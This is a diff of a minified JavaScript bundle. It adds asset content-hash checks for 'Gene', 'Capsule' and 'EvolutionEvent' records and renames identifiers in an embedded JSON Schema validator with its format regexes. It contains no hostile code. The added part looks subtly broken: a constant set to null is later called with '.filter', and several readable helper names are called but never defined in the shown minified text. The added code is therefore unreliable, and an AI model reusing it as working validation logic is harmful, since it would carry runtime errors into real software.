+filter(l=>i.has(l.id)&&!o.has(l.id)&&!c.has(l))}function xN({value:n}){const e=typeof n.asset_id=="string"?Tw(n.asset_id):
+void 0,t=i=>computeAssetId(i)===`sha256:${e}`;return t(n)?"unprefixed":n.type==="Gene"&&n.epigenetic_marks!==void 0&&t({
+...ud(n),epigenetic_marks:[]})?"created":void 0}const cd={env_fingerprint:["region"],Capsule:["diff","strategy"]};function Sw(n){
+const t=cd.Capsule.filter(r=>n.type==="Capsule"&&!(r in n)).reduce((r,i)=>r.flatMap(o=>[o,{...o,[i]:null}]),[{}]);return[
+n,pa(n)].flatMap(r=>t.map(i=>({...r,...i}))).find(r=>ki(r)===n.asset_id)}function pa(n){if(Array.isArray(n))return n.map(
+pa);if(!En(n))return n;const e=Object.entries(n).map(([t,s])=>{const r=pa(s),[i]=cd.env_fingerprint,o=t==="env_fingerpri\
+nt"&&En(r)&&!(i in r);return[t,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function ON({value:n},e){if(n.type!==
+"Gene"||e===void 0)return!1;const[t,s]=[n,e.value].map(r=>{const{schema_version:i,asset_id:o,...c}=ud(r);return canonicalize(
+c)});return t===s}function ud(n){const{epigenetic_marks:e,learning_history:t,anti_patterns:s,...r}=n;return r}function Tw(n){
+const e=n.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const Iw=new Set(["Ge\
+ne","Capsule","EvolutionEvent"]);function ms(n){const{type:e,value:t}=n,s=t.asset_id;if(s===gs(n.value))return"content";
+if(e==="Capsule"&&s===gs(Nw(t)))return"hub";if(typeof s=="string")return s===gs(Yl(t))?"local":Sw(t)?"engine":void 0}function AN(n,e){
+const{type:t,value:s}=n;if(!Iw.has(t))return ld(n,e);const r=dd(n,e),i=placeOf(n),o=s.asset_id===void 0?gs(n.value):void 0;
+return[...s.schema_version===void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?ld(n,e):[finding("content-h\
+ash-missing",{...r,expected:o},i)]]}function SN({rule:n}){return n==="schema-version-missing"||n==="content-hash-missing"}
+function ld(n,e,t=!1,s){const{value:r}=n;if(r.asset_id===void 0||ms(n)!==void 0)return[];const i=gs(n.value),o=otherHashForm(
+n),c=seedRelease(n),B=o==="created"||c!==void 0?"notice":hasOnlyLearned(n,s)?"warning":"error",d=e==="author"?"error":B,
+h={...placeOf(n,["asset_id"]),severity:d},g={...dd(n,e),expected:i,...o&&{form:o},...c&&{seed:c}},C=t&&d!=="notice"&&e===
+"fix"?$w(n,i):void 0;return[{...finding("content-hash-mismatch",g,h),...C&&{edit:C}}]}function dd({type:n,id:e},t){return{
+type:n,id:e,fixable:t==="fix",...t==="author"&&{foreign:!0}}}function TN(n){const{asset_id:e}=n.value;return typeof e=="\
+string"&&ms(n)!==void 0?e:gs(n.value)}function $w({type:n,path:e,pointer:t,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!=
+"string"||Object.values(o).some(Bd))&&ms({type:n,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...t,
+"asset_id"]),old:i,new:[r],fix:!0}}function Bd(n){return typeof n!="object"||n===null?!1:Object.hasOwn(n,"asset_id")||Object.
+values(n).some(Bd)}function gs(n){return ki(n)??""}const Rw=null;function Nw(n){const{outcome:e}=n;if(!En(e))return n;const{
+notes:t,details:s,...r}=e;return{...n,outcome:r}}function IN(n){const{outcome:e}=n.value,t=ms(n);return t==="local"?annotationsOf(
+n.value):t!=="hub"||!isJsonObject(e)?[]:Rw.filter(s=>Object.hasOwn(e,s)).map(s=>`outcome.${s}`)}function vn(n){return encodeURI(
+Fw(n)).replace(/#/g,"%23")}function Fw(n){return n.replace(/~/g,"~0").replace(/\//g,"~1")}const Pw=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,
+Lw=/^%[0-9A-Fa-f]{2}$/,jw=/^[A-Za-z0-9._~-]$/;function Mw(n){let e="";for(let t=0;t<n.length;){const s=n[t],r=n.slice(t,
+t+3);if(s==="%"&&Lw.test(r)){const o=String.fromCharCode(parseInt(r.slice(1),16));e+=jw.test(o)?o:r.toUpperCase(),t+=3;continue}
+const i=String.fromCodePoint(n.codePointAt(t));e+=Pw.test(i)?i:encodeURIComponent(i),t+=i.length}return e}function $i(n,e){
+const t=new URL(n,e.href);return t.hash=t.hash?Mw(t.hash.slice(1)):"",t}const $N={additionalItems:!0,unevaluatedItems:!0,
+items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,propertyNames:!0,not:!0,if:!0,then:!0,else:!0},Gw={
+prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},Hw={$defs:!0,definitions:!0,properties:!0,patternProperties:!0,dependentSchemas:!0},
+zw={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,default:!0,enum:!0,const:!0,required:!0,dependentRequired:!0,
+type:!0,maximum:!0,minimum:!0,exclusiveMaximum:!0,exclusiveMinimum:!0,multipleOf:!0,maxLength:!0,minLength:!0,pattern:!0,
+format:!0,maxItems:!0,minItems:!0,uniqueItems:!0,maxProperties:!0,minProperties:!0};let Uw=typeof self<"u"&&self.location&&
+self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+location.search):new URL("https://gith\
+ub.com/cfworker");function Cs(n,e=Object.create(null),t=Uw,s=""){if(n&&typeof n=="object"&&!Array.isArray(n)){const i=n.
+$id||n.id;if(i){const o=$i(i,t);o.hash.length>1?e[o.href]=n:(o.hash="",s===""?t=o:Cs(n,e,t))}}else if(n!==!0&&n!==!1)return e;
+const r=t.href+(s?"#"+s:"");if(e[r]!==void 0&&e[r]!==n)throw new Error(`Duplicate schema URI "${r}".`);if(e[r]=n,n===!0||
+n===!1)return e;if(n.__absolute_uri__===void 0&&Object.defineProperty(n,"__absolute_uri__",{enumerable:!1,value:r}),n.$ref&&
+n.__absolute_ref__===void 0){const i=$i(n.$ref,t);Object.defineProperty(n,"__absolute_ref__",{enumerable:!1,value:i.href})}
+if(n.$recursiveRef&&n.__absolute_recursive_ref__===void 0){const i=$i(n.$recursiveRef,t);Object.defineProperty(n,"__abso\
+lute_recursive_ref__",{enumerable:!1,value:i.href})}if(n.$anchor){const i=$i("#"+n.$anchor,t);e[i.href]=n}for(let i in n){
+if(zw[i])continue;const o=`${s}/${vn(i)}`,c=n[i];if(Array.isArray(c)){if(Gw[i]){const l=c.length;for(let B=0;B<l;B++)Cs(
+c[B],e,t,`${o}/${B}`)}}else if(Hw[i])for(let l in c)Cs(c[l],e,t,`${o}/${vn(l)}`);else Cs(c,e,t,o)}return e}function kr(n,e){
+const t=typeof n;if(t!==typeof e)return!1;const s=Array.isArray(n),r=Array.isArray(e);if(s!==r)return!1;if(s){const i=n.
+length;if(i!==e.length)return!1;for(let o=0;o<i;o++)if(!kr(n[o],e[o]))return!1;return!0}if(t==="object"){if(!n||!e)return n===
+e;const i=Object.keys(n),o=Object.keys(e);if(i.length!==o.length)return!1;for(const l of i)if(!Object.prototype.hasOwnProperty.
+call(e,l)||!kr(n[l],e[l]))return!1;return!0}return n===e}const Jw=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,Zw=[0,31,28,31,30,31,30,31,
+31,30,31,30,31],Ww=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,fd=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
+Kw=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
+qw=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
+Yw=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
+Vw=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,Qw=/^(?:\/(?:[^~/]|~0|~1)*)*$/,Xw=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
+eb=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,tb=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
+nb=n=>{const e=n.match(tb);if(!e)return!1;const t=e[1],s=e[2];if(!t||!s||t.length>64||s.length>253||t[0]!=='"'&&(t[0]===
 "."||t.endsWith(".")||t.includes("..")))return!1;if(s.startsWith("[")&&s.endsWith("]")){const r=s.slice(1,-1);return/^ipv6:/i.
-test(r)?fd.test(r.slice(5)):Bd.test(r)}return dd.test(s)},Bd=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
-fd=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
-Kw=n=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
-test(n);function Nn(n){return n.test.bind(n)}const hd={date:pd,time:md.bind(void 0,!0),"date-time":Vw,duration:Kw,uri:eb,
-"uri-reference":Nn(jw),"uri-template":Nn(Mw),url:Nn(Gw),email:Ww,hostname:Nn(dd),ipv4:Nn(Bd),ipv6:Nn(fd),regex:nb,uuid:Nn(
-Hw),"json-pointer":Nn(zw),"json-pointer-uri-fragment":Nn(Uw),"relative-json-pointer":Nn(Jw)};function qw(n){return n%4===
-0&&(n%100!==0||n%400===0)}function pd(n){const e=n.match(Fw);if(!e)return!1;const t=e[1],s=e[2],r=e[3];if(!t||!s||!r)return!1;
-const i=+t,o=+s,c=+r,l=o==2&&qw(i)?29:Pw[o];return o>=1&&o<=12&&c>=1&&l!==void 0&&c<=l}function md(n,e){const t=e.match(
-Lw);if(!t)return!1;const s=t[1],r=t[2],i=t[3];if(!s||!r||!i)return!1;const o=+s,c=+r,l=+i,B=t[5],d=t[6],h=+(t[7]??0),g=+(t[8]??
+test(r)?pd.test(r.slice(5)):hd.test(r)}return fd.test(s)},hd=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
+pd=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
+sb=n=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
+test(n);function Nn(n){return n.test.bind(n)}const md={date:gd,time:Cd.bind(void 0,!0),"date-time":ob,duration:sb,uri:ub,
+"uri-reference":Nn(Kw),"uri-template":Nn(qw),url:Nn(Yw),email:nb,hostname:Nn(fd),ipv4:Nn(hd),ipv6:Nn(pd),regex:db,uuid:Nn(
+Vw),"json-pointer":Nn(Qw),"json-pointer-uri-fragment":Nn(Xw),"relative-json-pointer":Nn(eb)};function rb(n){return n%4===
+0&&(n%100!==0||n%400===0)}function gd(n){const e=n.match(Jw);if(!e)return!1;const t=e[1],s=e[2],r=e[3];if(!t||!s||!r)return!1;
+const i=+t,o=+s,c=+r,l=o==2&&rb(i)?29:Zw[o];return o>=1&&o<=12&&c>=1&&l!==void 0&&c<=l}function Cd(n,e){const t=e.match(
+Ww);if(!t)return!1;const s=t[1],r=t[2],i=t[3];if(!s||!r||!i)return!1;const o=+s,c=+r,l=+i,B=t[5],d=t[6],h=+(t[7]??0),g=+(t[8]??
 0);if(o>23||c>59||l>60||h>23||g>59||n&&B===void 0)return!1;if(l<60)return!0;const C=d==="+"?1:d==="-"?-1:0;return(o*60+c-
-C*(h*60+g)+1440)%1440===1439}const Yw=/t|\s/i;function Vw(n){const[e,t,s]=n.split(Yw);return e!==void 0&&t!==void 0&&s===
-void 0&&pd(e)&&md(!0,t)}const Qw=/\/|:/,Xw=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
-function eb(n){return Qw.test(n)&&Xw.test(n)}const tb=/[^\\]\\Z/;function nb(n){if(tb.test(n))return!1;try{return new RegExp(
-n,"u"),!0}catch{return!1}}function sb(n){let e=0,t=n.length,s=0,r;for(;s<t;)e++,r=n.charCodeAt(s++),r>=55296&&r<=56319&&
-s<t&&(r=n.charCodeAt(s),(r&64512)==56320&&s++);return e}function Cs(n,e){return Object.prototype.hasOwnProperty.call(n,e)}
-function gd(n){const e=Math.abs(n).toString().split("e"),t=e[0],s=e[1]??"0",r=t.indexOf("."),i=r===-1?0:t.length-r-1;return[
-BigInt(t.replace(".","")),Number(s)-i]}function rb(n,e){if(!Number.isFinite(n)||!Number.isFinite(e)||e<=0)return!1;const[
-t,s]=gd(n),[r,i]=gd(e),o=s-i;return o>=0?t*10n**BigInt(o)%r===0n:t%(r*10n**BigInt(-o))===0n}function Tt(n,e,t="2019-09",s=gs(
+C*(h*60+g)+1440)%1440===1439}const ib=/t|\s/i;function ob(n){const[e,t,s]=n.split(ib);return e!==void 0&&t!==void 0&&s===
+void 0&&gd(e)&&Cd(!0,t)}const ab=/\/|:/,cb=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
+function ub(n){return ab.test(n)&&cb.test(n)}const lb=/[^\\]\\Z/;function db(n){if(lb.test(n))return!1;try{return new RegExp(
+n,"u"),!0}catch{return!1}}function Bb(n){let e=0,t=n.length,s=0,r;for(;s<t;)e++,r=n.charCodeAt(s++),r>=55296&&r<=56319&&
+s<t&&(r=n.charCodeAt(s),(r&64512)==56320&&s++);return e}function ys(n,e){return Object.prototype.hasOwnProperty.call(n,e)}
+function yd(n){const e=Math.abs(n).toString().split("e"),t=e[0],s=e[1]??"0",r=t.indexOf("."),i=r===-1?0:t.length-r-1;return[
+BigInt(t.replace(".","")),Number(s)-i]}function fb(n,e){if(!Number.isFinite(n)||!Number.isFinite(e)||e<=0)return!1;const[
+t,s]=yd(n),[r,i]=yd(e),o=s-i;return o>=0?t*10n**BigInt(o)%r===0n:t%(r*10n**BigInt(-o))===0n}function Tt(n,e,t="2019-09",s=Cs(
 e),r=!0,i=null,o="#",c="#",l=Object.create(null)){if(e===!0)return{valid:!0,errors:[]};if(e===!1)return{valid:!1,errors:[
 {instanceLocation:o,keyword:"false",keywordLocation:o,error:"False boolean schema."}]};const B=typeof n;let d;switch(B){case"\
 boolean":case"number":case"string":d=B;break;case"object":n===null?d="null":Array.isArray(n)?d="array":d="object";break;default:
@@ -3284,73 +3298,73 @@ Ne))||ye.push({instanceLocation:o,keyword:"enum",keywordLocation:`${c}/enum`,err
 stringify(k)}.`}):k.some(Ne=>n===Ne)||ye.push({instanceLocation:o,keyword:"enum",keywordLocation:`${c}/enum`,error:`Inst\
 ance does not match any of ${JSON.stringify(k)}.`})),x!==void 0){const Ne=`${c}/not`;Tt(n,x,t,s,r,i,o,Ne).valid&&ye.push(
 {instanceLocation:o,keyword:"not",keywordLocation:Ne,error:'Instance matched "not" schema.'})}let wt=[];if(D!==void 0){const Ne=`${c}\
-/anyOf`,Re=ye.length;let We=!1;for(const[Ae,we]of D.entries()){const Ce=Object.create(l),Pe=Tt(n,we,t,s,r,C===!0?i:null,
-o,`${Ne}/${Ae}`,Ce);ye.push(...Pe.errors),We=We||Pe.valid,Pe.valid&&wt.push(Ce)}We?ye.length=Re:ye.splice(Re,0,{instanceLocation:o,
+/anyOf`,Re=ye.length;let We=!1;for(const[Ae,we]of D.entries()){const ge=Object.create(l),Pe=Tt(n,we,t,s,r,C===!0?i:null,
+o,`${Ne}/${Ae}`,ge);ye.push(...Pe.errors),We=We||Pe.valid,Pe.valid&&wt.push(ge)}We?ye.length=Re:ye.splice(Re,0,{instanceLocation:o,
 keyword:"anyOf",keywordLocation:Ne,error:"Instance does not match any subschemas."})}if(P!==void 0){const Ne=`${c}/allOf`,
-Re=ye.length;let We=!0;for(const[Ae,we]of P.entries()){const Ce=Object.create(l),Pe=Tt(n,we,t,s,r,C===!0?i:null,o,`${Ne}\
-/${Ae}`,Ce);ye.push(...Pe.errors),We=We&&Pe.valid,Pe.valid&&wt.push(Ce)}We?ye.length=Re:ye.splice(Re,0,{instanceLocation:o,
+Re=ye.length;let We=!0;for(const[Ae,we]of P.entries()){const ge=Object.create(l),Pe=Tt(n,we,t,s,r,C===!0?i:null,o,`${Ne}\
+/${Ae}`,ge);ye.push(...Pe.errors),We=We&&Pe.valid,Pe.valid&&wt.push(ge)}We?ye.length=Re:ye.splice(Re,0,{instanceLocation:o,
 keyword:"allOf",keywordLocation:Ne,error:"Instance does not match every subschema."})}if(z!==void 0){const Ne=`${c}/oneO\
-f`,Re=ye.length,We=z.filter((Ae,we)=>{const Ce=Object.create(l),Pe=Tt(n,Ae,t,s,r,C===!0?i:null,o,`${Ne}/${we}`,Ce);return ye.
-push(...Pe.errors),Pe.valid&&wt.push(Ce),Pe.valid}).length;We===1?ye.length=Re:ye.splice(Re,0,{instanceLocation:o,keyword:"\
+f`,Re=ye.length,We=z.filter((Ae,we)=>{const ge=Object.create(l),Pe=Tt(n,Ae,t,s,r,C===!0?i:null,o,`${Ne}/${we}`,ge);return ye.
+push(...Pe.errors),Pe.valid&&wt.push(ge),Pe.valid}).length;We===1?ye.length=Re:ye.splice(Re,0,{instanceLocation:o,keyword:"\
 oneOf",keywordLocation:Ne,error:`Instance does not match exactly one subschema (${We} matches).`})}if((d==="object"||d===
 "array")&&Object.assign(l,...wt),L!==void 0){const Ne=`${c}/if`,Re=Object.create(null);if(Tt(n,L,t,s,r,i,o,Ne,Re).valid){
 if(Object.assign(l,Re),Q!==void 0){const Ae=Tt(n,Q,t,s,r,i,o,`${c}/then`,l);Ae.valid||ye.push({instanceLocation:o,keyword:"\
 if",keywordLocation:Ne,error:'Instance does not match "then" schema.'},...Ae.errors)}}else if(S!==void 0){const Ae=Tt(n,
 S,t,s,r,i,o,`${c}/else`,l);Ae.valid||ye.push({instanceLocation:o,keyword:"if",keywordLocation:Ne,error:'Instance does no\
-t match "else" schema.'},...Ae.errors)}}if(d==="object"){if(E!==void 0)for(const Ae of E)Cs(n,Ae)||ye.push({instanceLocation:o,
+t match "else" schema.'},...Ae.errors)}}if(d==="object"){if(E!==void 0)for(const Ae of E)ys(n,Ae)||ye.push({instanceLocation:o,
